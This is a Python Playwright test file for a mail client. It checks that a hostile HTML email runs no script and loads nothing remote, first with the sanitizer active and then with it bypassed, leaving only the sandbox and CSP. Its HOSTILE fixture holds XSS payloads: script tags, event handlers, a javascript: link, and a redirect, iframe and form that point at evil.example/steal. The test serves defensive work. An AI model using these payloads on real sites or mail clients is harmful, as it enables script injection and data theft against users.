"""A hostile HTML email in Chromium: nothing in it runs, nothing remote loads.

Two walls are tested apart: the sanitized body as sync caches it, and — with the sanitizer
bypassed by writing the raw HTML straight into the body cache — the sandboxed frame and the
page's Content-Security-Policy alone."""

from __future__ import annotations

from playwright.async_api import Browser, Page, Request, expect
from sqlalchemy import delete, insert, select

from maildesk import mailboxes
from maildesk.store.tables import bodies, messages
from tests.support.harness import Harness
from tests.web.browser import tab
from tests.web.support import AGENT, Site

MAILBOX = "inbox@example.com"
HOSTILE = """<html><head><script>top.document.title = "pwned"; window.__pwned = 1;
alert("script")</script><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert('onload')"><p id="greeting" style="color:#b00">Hello <b>there</b></p>
<img src="https://tracker.example/pixel.gif" onerror="alert('onerror')">
<svg onload="alert('svg')"></svg><a id="js-link" href="javascript:alert('link')">click</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="q"></form></body></html>"""


async def test_a_hostile_email_runs_nothing_in_the_browser(
    harness: Harness, site: Site, base_url: str, browser: Browser,
) -> None:
    h = harness
    account_id = await h.add_gmail(MAILBOX, seed=2)
    await h.sync_until_idle()
    remote = h.google.add_message(MAILBOX, subject="Your invoice <script>alert(1)</script>",
                                  sender="Mallory <m@evil.example>", to=MAILBOX,
                                  text="plain", html=HOSTILE)
    await mailboxes.request_sync(h.services, account_id)
    await h.sync_until_idle()
    message_id = await mid_of(h, remote)
    await site.user(AGENT, share=[account_id])

    async with tab(browser, base_url, AGENT) as t:
        # Chromium reports a request the policy blocked as a failed request (ERR_BLOCKED_BY_CSP)
        # that never reached the network; anything else remote would be a leak (this machine
        # has no route out, so "failed" alone would prove nothing).
        leaks: list[str] = []

        def on_done(request: Request) -> None:
            if is_remote(request.url, base_url):
                leaks.append(f"{request.url}: {request.failure or 'loaded'}")

        def on_failed(request: Request) -> None:
            # Chromium words a CSP refusal "net::ERR_BLOCKED_BY_CSP" or, in some builds and
            # frames, just "csp"; either means the policy stopped it before the network.
            failure = (request.failure or "").lower()
            blocked = "blocked_by_csp" in failure or failure == "csp"
            if is_remote(request.url, base_url) and not blocked:
                leaks.append(f"{request.url}: {request.failure}")

        t.page.on("requestfinished", on_done)
        t.page.on("requestfailed", on_failed)
        url = f"/mailboxes/{account_id}/messages/{message_id}"

        # Wall 1 + 2: the sanitized body in the sandboxed frame.
        await t.page.goto(url)
        await check_nothing_ran(t.page)
        assert t.dialogs == []

        # Wall 2 alone: the raw hostile HTML, as if the sanitizer had missed everything.
        async with h.services.db.transaction() as conn:
            await conn.execute(delete(bodies).where(bodies.c.message_id == message_id))
            await conn.execute(insert(bodies).values(message_id=message_id, html=HOSTILE,
                                                     text="", fetched_at=h.clock.now()))
        await t.page.goto(url)
        await check_nothing_ran(t.page)
        await t.page.frame_locator("iframe.message-body").get_by_role(
            "link", name="click").click()
        await t.page.wait_for_timeout(200)
        assert t.dialogs == [], "no dialog from any of the handlers"
        assert leaks == [], leaks
        # What the browser did report is the policy refusing things — never a script error.
        assert all("Content Security Policy" in e or "sandbox" in e.lower()
                   or "Blocked script execution" in e for e in t.errors), t.errors


async def check_nothing_ran(page: Page) -> None:
    frame_el = page.locator("iframe.message-body")
    await expect(frame_el).to_have_attribute("sandbox",
                                             "allow-popups allow-popups-to-escape-sandbox")
    body = page.frame_locator("iframe.message-body")
    await expect(body.get_by_text("Hello")).to_contain_text("Hello there")
    assert "pwned" not in await page.title()
    assert await page.evaluate("window.__pwned") is None
    frame = page.frames[1]
    assert await frame.evaluate("window.__pwned") is None
    assert frame.url in ("about:srcdoc", "about:blank")


def is_remote(url: str, base_url: str) -> bool:
    return not url.startswith((base_url, "data:", "about:"))


async def mid_of(h: Harness, remote: str) -> int:
    async with h.services.db.read() as conn:
        found = await conn.scalar(select(messages.c.id).where(messages.c.remote_id == remote))
    assert found is not None
    return int(found)
